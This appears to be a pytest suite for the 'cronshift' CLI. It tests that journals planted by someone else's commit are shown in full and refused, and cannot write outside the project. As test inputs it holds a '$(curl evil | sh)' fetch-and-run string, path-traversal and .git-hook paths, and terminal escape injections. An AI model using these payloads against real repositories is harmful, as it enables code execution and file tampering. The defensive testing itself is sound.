"""Journals that somebody else wrote: what a repository can, and cannot, make cronshift do."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import socket
import stat
from base64 import b64encode
from contextlib import chdir
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cronshift.cli import run
from cronshift.operations import Edit, Intent, apply, build_operation, read_journal
from cronshift.operations.journal import decode, encode, write_operation

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from cronshift.operations import Operation

NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
ULID = "01KAVH7R00ZQ4X8N5T2M9C6B3D"
VERCEL = '{"crons": [{"path": "/api/cron/a", "schedule": "0 6 * * *"}]}\n'


class Project:
    """A folder with a configuration and a journal that a commit has brought."""

    def __init__(self, root: Path, capture: pytest.CaptureFixture[str]) -> None:
        self.root, self._capture = root, capture
        root.mkdir()
        (root / "vercel.json").write_text(VERCEL)
        (root / "readme.txt").write_text("theirs\n")

    @property
    def journal(self) -> Path:
        folder = self.root / ".cronshift" / "operations"
        folder.mkdir(parents=True, exist_ok=True)
        return folder

    def planned(self, **files: str) -> Operation:
        edits = [Edit(name.replace("__", "."), text.encode()) for name, text in files.items()]
        return build_operation(
            self.root, "migrate", edits, NOW, intent=Intent.MIGRATE, operation_id=ULID
        )

    def plant(self, document: Any, name: str = ULID) -> Path:
        path = self.journal / f"{name}.json"
        path.write_text(json.dumps(document))
        return path

    def document(self, **changes: Any) -> dict[str, Any]:
        """An operation that writes evil.txt, as somebody else's cronshift would record it."""
        return self.planned(evil__txt="evil\n").to_json() | changes

    def __call__(self, *words: str) -> tuple[int, str, str]:
        code = run(["-C", str(self.root), *words])
        return code, *self._capture.readouterr()

    def tree(self) -> dict[str, object]:
        return {
            str(path.relative_to(self.root.parent)): path.read_bytes() if path.is_file() else None
            for path in self.root.parent.rglob("*")
            if ".cronshift" not in path.parts and "state" not in path.parts
        }


@pytest.fixture
def project(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Project:
    return Project(tmp_path / "project", capsys)


def test_resume_shows_in_full_before_it_carries_out(project: Project) -> None:
    write_operation(project.root, project.planned(a__txt="one\n", b__txt="two\n"))
    code, out, err = project("resume", "--dry-run")
    assert code == 0
    assert "begun by" in err
    for line in ("write  a.txt", "+one", "write  b.txt", "+two"):
        assert line in out
    assert not (project.root / "a.txt").exists()
    code, out, err = project("resume", "--revert", "--yes", "--json")
    assert code == 0
    assert "-one" in err
    assert json.loads(out)["state"] == "reverted"


def test_nothing_hides_behind_a_byte_that_is_no_text(project: Project) -> None:
    document = project.document()
    data = b"echo evil\n\0\xff\n"
    content = {"sha256": hashlib.sha256(data).hexdigest(), "base64": b64encode(data).decode()}
    document["changes"][0]["images"][0] |= {"after": content, "mode": 0o755}
    project.plant(document)
    for words in (("resume", "--dry-run"), ("show", ULID)):
        _, out, _ = project(*words)
        assert "+echo evil\n" in out
        assert "+\\x00\\xff" in out


@pytest.mark.parametrize("words", [("resume", "--dry-run"), ("operations", "show", ULID)])
@pytest.mark.parametrize("extra", [(), ("--json",)])
def test_what_is_foreign_is_shown_to_the_letter(
    project: Project, words: tuple[str, ...], extra: tuple[str, ...]
) -> None:
    """A literal that is masked in an own operation could hide what a foreign one would do."""
    hidden = 'token = "$(curl evil | sh)"\n'
    project.plant(project.planned(evil__txt=hidden).to_json())
    _, out, _ = project(*words, *extra)
    assert "curl evil | sh" in out
    write_operation(project.root, project.planned(evil__txt=hidden))
    _, out, _ = project(*words, *extra)
    assert "curl evil" not in out


def test_a_foreign_operation_is_not_carried_out_by_yes(project: Project) -> None:
    project.plant(project.document())
    before = project.tree()
    for words in (("resume", "--yes"), ("resume", "--revert", "--yes"), ("resume",)):
        code, out, _ = project(*words, "--json")
        assert code == 3
        assert json.loads(out)["error"]["reason"] == "foreign-operation"
    assert project.tree() == before
    assert project("resume", "--operation", ULID[:10], "--yes")[0] == 2
    assert project("resume", "--operation", ULID, "--yes")[0] == 0
    assert (project.root / "evil.txt").read_text() == "evil\n"


def test_a_mark_of_another_folder_is_foreign(project: Project, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    project.journal.joinpath(f"{ULID}.json").write_bytes(
        encode(other, project.planned(evil__txt="evil\n"))
    )
    assert project("resume", "--yes")[0] == 3
    assert not (project.root / "evil.txt").exists()


def test_a_marked_operation_that_was_changed_is_foreign(project: Project) -> None:
    write_operation(project.root, project.planned(evil__txt="good\n"))
    path = project.journal / f"{ULID}.json"
    path.write_text(path.read_text().replace('"jobs": []', '"jobs": ["b"]'))
    assert project("resume", "--yes")[0] == 3


def test_the_state_of_a_marked_operation_is_marked_too(project: Project) -> None:
    """What is under way is not turned round by who can commit: that would undo what was to be finished."""
    write_operation(project.root, project.planned(evil__txt="good\n"))
    path = project.journal / f"{ULID}.json"
    path.write_text(path.read_text().replace('"state": "applying"', '"state": "reverting"'))
    assert not read_journal(project.root).records[0].is_own
    refused_until_named(project)


def ended(project: Project, way: str) -> Path:
    """An own operation that came to an end, and whose files stand as before it by now."""
    write_operation(project.root, project.planned(evil__txt="long gone\n"))
    assert project("resume", "--yes", *(["--revert"] if way == "reverted" else []))[0] == 0
    project.root.joinpath("evil.txt").unlink(missing_ok=True)
    return project.journal / f"{ULID}.json"


@pytest.mark.parametrize("way", ["applied", "reverted"])
@pytest.mark.parametrize("state", ["applying", "reverting"])
def test_an_own_operation_that_ended_is_not_taken_up_again(
    project: Project, way: str, state: str
) -> None:
    path = ended(project, way)
    assert read_journal(project.root).records[0].is_own
    path.write_text(path.read_text().replace(f'"state": "{way}"', f'"state": "{state}"'))
    assert not read_journal(project.root).records[0].is_own
    refused_until_named(project)


def test_a_record_from_before_the_end_is_not_taken_up_again(project: Project) -> None:
    planned = project.planned(evil__txt="long gone\n")
    write_operation(project.root, planned)
    path = project.journal / f"{ULID}.json"
    interrupted = path.read_bytes()
    assert project("resume", "--yes")[0] == 0
    (project.root / "evil.txt").unlink()
    path.write_bytes(interrupted)
    refused_until_named(project)


@pytest.mark.parametrize("applied", [True, False])
def test_a_kept_plan_in_the_journals_folder_was_not_begun(project: Project, applied: bool) -> None:
    planned = project.planned(evil__txt="long gone\n")
    if applied:
        apply(project.root, planned)
        (project.root / "evil.txt").unlink()
    (project.journal / f"{ULID}.json").write_bytes(encode(project.root, planned))
    refused_until_named(project)


def test_what_is_under_way_in_another_folder_is_not_here(project: Project, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    planned = project.planned(evil__txt="evil\n")
    write_operation(other, planned)
    (project.journal / f"{ULID}.json").write_bytes(encode(project.root, planned))
    refused_until_named(project)


def test_a_note_that_others_may_write_counts_for_nothing(
    project: Project, state_home: Path
) -> None:
    write_operation(project.root, project.planned(evil__txt="evil\n"))
    for note in state_home.joinpath("cronshift").glob("under-way.*"):
        assert stat.S_IMODE(note.stat().st_mode) == 0o600
        note.chmod(0o666)
    refused_until_named(project)


def refused_until_named(project: Project) -> None:
    before = project.tree()
    for words in (("resume", "--yes"), ("resume", "--revert", "--yes")):
        code, out, _ = project(*words, "--json")
        assert (code, json.loads(out)["error"]["reason"]) == (3, "foreign-operation")
    assert project.tree() == before
    assert project("resume", "--operation", ULID, "--yes")[0] == 0
    assert read_journal(project.root).unfinished() is None


def test_the_key_is_the_users_alone(project: Project, state_home: Path) -> None:
    write_operation(project.root, project.planned(a__txt="one\n"))
    key = state_home / "cronshift" / "journal.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert key.read_bytes().hex() not in (project.journal / f"{ULID}.json").read_text()
    key.chmod(0o644)
    try:
        assert project("resume", "--yes")[0] == 3
    finally:
        key.chmod(0o600)
    assert project("resume", "--yes")[0] == 0


def test_without_a_state_folder_everything_works_and_nothing_is_taken_for_yours(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/proc/nowhere")
    assert project("migrate", "--yes")[0] == 0
    (journal,) = project.journal.glob("*.json")
    assert "hmac" not in json.loads(journal.read_text())
    journal.write_text(journal.read_text().replace('"state": "applied"', '"state": "applying"'))
    assert project("resume", "--yes")[0] == 3
    assert project("resume", "--yes", "--operation", journal.stem)[0] == 0


OUTSIDE = [
    "../outside.txt",
    "/srv/outside.txt",
    ".git/hooks/pre-commit",
    ".GIT/hooks/pre-commit",
    ".g\u200cit/hooks/pre-commit",
    "git~1/hooks/pre-commit",
    "packages/a/.git/config",
    ".git",
    ".git./config",
    ".git::$INDEX_ALLOCATION/config",
    ".cronshift/operations/x.json",
    "a//b",
    "a/./b",
    "a/",
    "",
    "a\x00b",
]


@pytest.mark.parametrize("path", OUTSIDE)
@pytest.mark.parametrize("state", ["applying", "reverting", "applied"])
def test_what_is_not_the_projects_is_refused_whatever_the_journal_says(
    project: Project, path: str, state: str
) -> None:
    (project.root / ".git" / "hooks").mkdir(parents=True)
    document = project.document(state=state)
    document["changes"][0]["images"][0] |= {"path": path, "mode": 0o755}
    project.plant(document)
    before = project.tree()
    for words in (
        ("resume", "--yes", "--operation", ULID),
        ("resume", "--revert", "--yes"),
        ("rollback", "--all", "--yes"),
        ("migrate", "--dry-run"),
    ):
        code, _, err = project(*words)
        assert "a bug in cronshift" not in err.lower()
        if words[0] == "rollback":
            assert code == 0
            assert f"cronshift operations abandon {ULID}" in err
    assert project.tree() == before
    plan = project.root.parent / "plan.json"
    plan.write_text(json.dumps(document))
    code, _, err = project("apply", str(plan), "--yes", "--operation", ULID)
    assert (code, "holds no plan" in err) == (2, True)


@pytest.mark.parametrize("folders", [{"made": [".git"]}, {"emptied": ["src"]}, {"made": ["../x"]}])
def test_folders_that_no_file_lies_in_are_refused(
    project: Project, folders: dict[str, list[str]]
) -> None:
    (project.root / "src").mkdir()
    project.plant(project.document(**folders))
    project("resume", "--yes", "--operation", ULID)
    assert (project.root / "src").is_dir()
    assert not (project.root / ".git").exists()
    assert not (project.root.parent / "x").exists()
    assert read_journal(project.root).unreadable


def test_a_link_in_the_way_is_refused(project: Project, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    document = project.planned(**{"src/evil__txt": "evil\n"}).to_json()
    (project.root / "src").symlink_to(outside)
    project.plant(document)
    code, _, err = project("resume", "--yes", "--operation", ULID)
    assert (code, "symbolic link" in err) == (3, True)
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize("name", ["../../escaped", "short", "01kavh7r00zq4x8n5t2m9c6b3d"])
def test_an_id_is_a_ulid_and_the_name_of_its_file(project: Project, name: str) -> None:
    document = project.document(id=name)
    project.plant(document)
    (broken,) = read_journal(project.root).unreadable
    assert broken.cause == "its id is no ULID"
    plan = project.root.parent / "plan.json"
    plan.write_text(json.dumps(document))
    assert project("apply", str(plan), "--yes", "--operation", name)[0] == 2
    assert {path.name for path in project.root.parent.iterdir()} == {"project", "plan.json"}


def test_an_id_of_another_file_is_refused(project: Project) -> None:
    project.plant(project.document(), name="01KAVH7R00ZQ4X8N5T2M9C6B3E")
    (broken,) = read_journal(project.root).unreadable
    assert broken.cause == "it holds an operation of another id"


def a_link(path: Path) -> None:
    path.symlink_to(path.parents[2] / "readme.txt")


def a_fifo(path: Path) -> None:
    os.mkfifo(path)


def a_socket(path: Path) -> None:
    with chdir(path.parent), socket.socket(socket.AF_UNIX) as made:
        made.bind(path.name)  # its path has to be short


def a_folder(path: Path) -> None:
    path.mkdir()


def a_device(path: Path) -> None:
    path.symlink_to("/dev/zero")


STRANGE = [a_link, a_fifo, a_socket, a_folder, a_device]


@pytest.mark.parametrize("make", STRANGE)
def test_a_journal_that_is_no_file_hangs_and_bars_nothing(
    project: Project, make: Callable[[Path], None]
) -> None:
    make(project.journal / f"{ULID}.json")
    for words in (("history",), ("rollback", "--all", "--yes"), ("migrate", "--yes")):
        code, _, err = project(*words)
        assert code == 0
        assert f"cronshift operations abandon {ULID}" in err
    assert project("abandon", ULID, "--yes")[0] == 0
    assert read_journal(project.root).unreadable == ()
    assert (project.root / "readme.txt").read_text() == "theirs\n"


@pytest.mark.parametrize("make", STRANGE)
@pytest.mark.parametrize("name", ["lock", "lock.owner", ".gitignore"])
def test_what_stands_in_place_of_cronshifts_own_files_is_never_written_through(
    project: Project, make: Callable[[Path], None], name: str
) -> None:
    folder = project.journal.parent
    (folder / "x").mkdir()
    make(folder / "x" / "made")
    (folder / "x" / "made").rename(folder / name)
    if make is a_link:
        (folder / name).unlink()
        (folder / name).symlink_to("../readme.txt")
    code, _, err = project("migrate", "--yes")
    assert code in {0, 3}
    assert "bug" not in err
    assert (project.root / "readme.txt").read_text() == "theirs\n"


@pytest.mark.parametrize("part", [".cronshift", ".cronshift/operations"])
def test_a_state_folder_that_is_a_link_is_refused(
    project: Project, tmp_path: Path, part: str
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    link = project.root / part
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(outside)
    for words in (("migrate", "--yes"), ("rollback", "--all", "--yes"), ("history",)):
        code, _, err = project(*words)
        assert (code, "symbolic link" in err) == (3, True)
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b"\xff\xfe",
        b'{"version": 2}',
        b'{"version": 1e999}',
        b'{"version": ' + b"9" * 5000 + b"}",
        b"[" * 100_000,
        b'{"a": ' * 50_000,
    ],
)
def test_a_broken_journal_is_one_sentence_and_bars_nothing(project: Project, data: bytes) -> None:
    (project.journal / f"{ULID}.json").write_bytes(data)
    code, _, err = project("rollback", "--all", "--yes")
    assert code == 0
    assert f"The journal's {ULID}.json is left out: " in err
    assert f"cronshift operations abandon {ULID}" in err
    code, out, _ = project("show", ULID, "--json")
    assert (code, json.loads(out)["error"]["reason"]) == (3, "broken-journal")


def test_a_journal_of_a_newer_version_says_to_upgrade(project: Project) -> None:
    project.plant(project.document(version=99))
    code, _, err = project("rollback", "--all", "--yes")
    assert code == 0
    assert "Upgrade cronshift" in err


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("created", "0001-01-01T00:00:00+14:00"),
        ("created", "9999-12-31T23:59:59-14:00"),
        ("created", "2026-01-01T00:00:00"),
        ("created", 10**400),
        ("state", "exploding"),
        ("intent", "own-you"),
        ("jobs", "abc"),
        ("jobs", [1]),
        ("command", "\ud800"),
        ("actor", None),
        ("changes", {}),
        ("changes", [[]]),
        ("changes", [{"kind": "sql", "summary": "s", "images": [], "batch": {"forward": ["x"]}}]),
    ],
)
def test_a_value_out_of_range_is_no_bug_of_ours(project: Project, key: str, value: object) -> None:
    project.plant(project.document(**{key: value}))
    for words in (("history",), ("rollback", "--all", "--yes"), ("abandon", ULID, "--yes")):
        code, _, err = project(*words)
        assert (code, "bug" in err) == (0, False)


@pytest.mark.parametrize("mode", [0o4755, 0o2755, -1, 10**30, True, "755", 1.5])
def test_a_mode_is_one_that_files_get(project: Project, mode: object) -> None:
    document = project.document()
    document["changes"][0]["images"][0]["mode"] = mode
    project.plant(document)
    assert project("resume", "--yes", "--operation", ULID)[0] == 2
    assert not (project.root / "evil.txt").exists()


def test_rows_of_a_foreign_operation_are_never_touched(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{project.root.parent / 'app.db'}")
    statement = {"table": "users", "key": "id", "value": 1, "column": "credits", "amount": 9}
    change = {"kind": "sql", "summary": "s", "images": [], "database_env": "DATABASE_URL"}
    document = project.document()
    document["changes"].append(change | {"statements": [statement]})
    project.plant(document)
    code, _, err = project("resume", "--yes", "--operation", ULID)
    assert (code, "changes rows of a database" in err) == (3, True)
    assert not (project.root / "evil.txt").exists()
    assert not (project.root.parent / "app.db").exists()


def test_a_foreign_unfinished_operation_bars_cutover_but_not_the_way_back(project: Project) -> None:
    project.plant(project.document())
    code, _, err = project("migrate", "--yes")
    assert code == 3
    assert f"cronshift operations abandon {ULID}" in err
    assert project("rollback", "--all", "--yes")[0] == 0
    assert project("abandon", ULID, "--yes")[0] == 0
    assert project("migrate", "--yes")[0] == 0


def test_a_byte_saved_after_a_kill_leaves_a_way_out(project: Project) -> None:
    write_operation(project.root, project.planned(vercel__json='{"crons": []}\n'))
    (project.root / "vercel.json").write_text(VERCEL + " ")
    for words in (("resume", "--yes"), ("resume", "--revert", "--yes")):
        code, _, err = project(*words)
        assert code == 3
        assert f"cronshift operations abandon {ULID}" in err
    code, out, err = project("abandon", ULID, "--yes")
    assert code == 0
    assert "vercel.json  changed by somebody else" in out
    assert (project.root / "vercel.json").read_text() == VERCEL + " "
    copies = project.root / ".cronshift" / "abandoned" / ULID
    assert (copies / "before" / "vercel.json").read_text() == VERCEL
    assert (copies / "after" / "vercel.json").read_text() == '{"crons": []}\n'
    assert project("resume", "--yes")[0] == 0
    assert project("rollback", "--all", "--yes")[0] == 0
    assert project("abandon", ULID, "--yes")[0] == 0


def test_an_operation_that_came_to_its_end_is_not_given_up(project: Project) -> None:
    apply(project.root, project.planned(a__txt="one\n"))
    code, out, _ = project("abandon", ULID, "--yes", "--json")
    assert (code, json.loads(out)["error"]["reason"]) == (2, "not-unfinished")


def test_a_plan_of_somebody_else_needs_its_id(project: Project) -> None:
    plan = project.root.parent / "plan.json"
    plan.write_text(json.dumps(project.document()))
    code, out, _ = project("apply", str(plan), "--yes", "--json")
    assert (code, json.loads(out)["error"]["reason"]) == (3, "foreign-operation")
    assert not (project.root / "evil.txt").exists()
    assert project("apply", str(plan), "--yes", "--operation", ULID)[0] == 0
    (project.root / "evil.txt").unlink()
    code, out, _ = project("apply", str(plan), "--yes", "--operation", ULID, "--json")
    assert (code, json.loads(out)["error"]["reason"]) == (3, "applied-before")


def test_a_plan_that_is_no_file_is_refused(project: Project) -> None:
    a_fifo(project.root.parent / "plan.json")
    code, _, err = project("apply", str(project.root.parent / "plan.json"), "--yes")
    assert (code, "no regular file" in err) == (2, True)


def test_a_foreign_history_cannot_bring_back_what_is_not_the_projects(project: Project) -> None:
    document = project.document(
        intent="finalize", command="finalize a", jobs=["a"], state="applied"
    )
    content = document["changes"][0]["images"][0]["after"]
    image = {"path": ".git/hooks/pre-commit", "mode": 0o755, "before": content, "after": None}
    document["changes"] = [{"kind": "delete", "summary": "s", "images": [image]}]
    project.plant(document)
    assert project("rollback", "--all", "--yes")[0] == 0
    assert not (project.root / ".git").exists()


def test_control_characters_of_a_journal_do_not_reach_the_terminal(project: Project) -> None:
    project.plant(project.document(command="\x1b[2Jmigrate", actor="\x1b]0;x\x07"))
    for words in (("history",), ("show", ULID), ("resume", "--dry-run"), ("abandon", ULID, "-n")):
        _, out, err = project(*words)
        assert "\x1b" not in out + err
    project.plant(project.document(), name="\x1b[2J")
    assert "\x1b" not in "".join(map(str, project("history")))


values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=8)
    | st.sampled_from(["\ud800", "a" * 3000, "../x", ".git/x", ULID, "applying", "sql", "move"]),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=6,
)


def places(document: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a document, as the keys that lead there."""
    items = (
        document.items()
        if isinstance(document, dict)
        else enumerate(document)
        if isinstance(document, list)
        else ()
    )
    return [path, *(place for key, value in items for place in places(value, (*path, key)))]


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_change_to_a_journal_is_read_or_refused_in_words(
    tmp_path: Path, data: st.DataObject
) -> None:
    edits = [Edit("src/a.txt", b"one\n"), Edit("b.bin", b"\xff", mode=0o755)]
    document = build_operation(tmp_path, "m", edits, NOW, intent=Intent.MIGRATE).to_json()
    for _ in range(data.draw(st.integers(1, 3))):
        place = data.draw(st.sampled_from(places(document)))
        changed: Any = copy.deepcopy(document)
        target = changed
        if not place:
            changed = data.draw(values)
        else:
            for key in place[:-1]:
                target = target[key]
            target[place[-1]] = data.draw(values)
        document = changed
    try:
        record = decode(tmp_path, json.dumps(document).encode())
    except ValueError as error:
        assert str(error)
        return
    assert not record.is_own
    for image in record.operation.images:
        assert not image.path.startswith(("/", "..", ".git", ".cronshift"))
    assert decode(tmp_path, encode(tmp_path, record.operation)).operation == record.operation


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=60))
def test_any_bytes_are_refused_in_words(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(ValueError):
        decode(tmp_path, data)


@pytest.mark.parametrize("part", [".cronshift", ".cronshift/operations"])
def test_a_file_in_place_of_the_state_folder_is_told(project: Project, part: str) -> None:
    path = project.root / part
    path.parent.mkdir(exist_ok=True)
    path.write_text("")
    for words in (("migrate", "--yes"), ("rollback", "--all", "--yes"), ("history",)):
        code, _, err = project(*words)
        assert (code, "is no folder" in err) == (3, True)


@pytest.mark.parametrize("words", [("cutover", "--all", "--save-plan"), ("report", "--html")])
@pytest.mark.parametrize("kind", ["link", "folder that is a link", "fifo", "journal"])
def test_what_you_name_is_not_written_elsewhere(
    project: Project, tmp_path: Path, words: tuple[str, ...], kind: str
) -> None:
    """A commit that guesses the name of a report or a plan cannot have another file overwritten."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "bashrc").write_text("mine\n")
    name = "move.html"
    if kind == "link":
        (project.root / name).symlink_to(outside / "bashrc")
    elif kind == "folder that is a link":
        (project.root / "out").symlink_to(outside)
        name = "out/bashrc"
    elif kind == "fifo":
        os.mkfifo(project.root / name)
    else:
        name = f".cronshift/operations/{ULID}.json"
    (project.root / "api/cron").mkdir(parents=True)
    code, _, err = project(*words, str(project.root / name), *_YES.get(words[0], ()))
    assert code in {2, 3}, err
    assert (outside / "bashrc").read_text() == "mine\n"
    assert not (project.journal / f"{ULID}.json").exists()


_YES = {"cutover": ("--assume", "variables")}
